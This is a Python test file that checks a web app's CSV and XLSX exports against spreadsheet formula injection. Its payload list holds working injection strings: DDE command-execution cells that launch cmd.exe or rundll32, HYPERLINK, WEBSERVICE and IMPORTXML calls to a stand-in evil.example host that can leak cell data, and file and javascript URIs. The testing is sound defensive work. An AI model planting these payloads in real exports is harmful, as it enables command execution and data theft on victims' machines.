"""S15 of the security plan: no cell of an exported file is a formula, whatever a customer or an author wrote."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from lxml import etree

from web.views.exported import to_csv, to_xlsx

PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "=IMPORTXML(CONCAT(\"http://e/\",A1),\"//a\")",
    '=WEBSERVICE("http://evil.example")', "+1+1", "+cmd|' /C notepad'!'A1'", "-1+1", "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", " =1+1", "  +1", "\x0b=1+1",
    "\x1f@A1", "＝1+1", "＋1", "－1", "＠A1", "\ufeff=1+1", "\u200b=1+1", "\xa0=1+1", "'=1+1",
    '"=1+1', ";=1+1", ",=1+1",
    "=", "+", "-", "@", "=\t1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\cmd.exe'!x",
    "=rundll32|'URL.dll'!A",
    "-(1)", "+(1)", "=(1)", "@(1)", "=A1:A9", "={1,2}", "=-1", "=+1", "=@1", "--1", "++1", "=\"a\"&\"b\"",
    "http://evil.example", "mailto:a@b", "file:///etc/passwd", "javascript:alert(1)", "internal:Sheet1!A1",
    "external:\\\\evil\\x.xlsx", "1e5", "0001", "330102199003070019", "&lt;f&gt;", "<f>1+1</f>", "]]>", "</t><f>1</f>",
)  # fmt: skip
LIVE = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
INVISIBLE = "\ufeff\u200b\xa0 \t\r\n\x00\x0b\x1f"
"""What a program may skip before it looks whether a cell is a formula."""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_csv_cell_is_a_formula(payload):
    data = to_csv([payload], [[payload, 1.5, None, -3]]).decode("utf-8-sig")
    head, row = csv.reader(io.StringIO(data, newline=""))

    for cell in (head[0], row[0]):
        assert not cell.lstrip(INVISIBLE).startswith(LIVE)
    assert row[1:] == ["1.5", "", "-3"], "numbers of ours stay numbers"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_workbook_cell_is_a_formula_or_a_link(payload):
    with zipfile.ZipFile(io.BytesIO(to_xlsx([payload], [[payload, 1.5, None]]))) as book:
        sheet = etree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        names = book.namelist()

    tags = {etree.QName(element).localname for element in sheet.iter()}
    assert not tags & {"f", "hyperlink", "hyperlinks"}
    assert not any("externalLink" in name or name.endswith("sheet1.xml.rels") for name in names)
    assert [cell.get("t") for cell in sheet.iter("{*}c")] == ["inlineStr", "inlineStr", None, "inlineStr"]


def test_what_is_harmless_stays_as_it_was():
    data = to_csv(["工单号"], [["3340102260302000017", "张**", 'a "b"', "a=b", "A1"]]).decode("utf-8-sig")

    assert next(iter(list(csv.reader(io.StringIO(data)))[1:])) == ["3340102260302000017", "张**", 'a "b"', "a=b", "A1"]
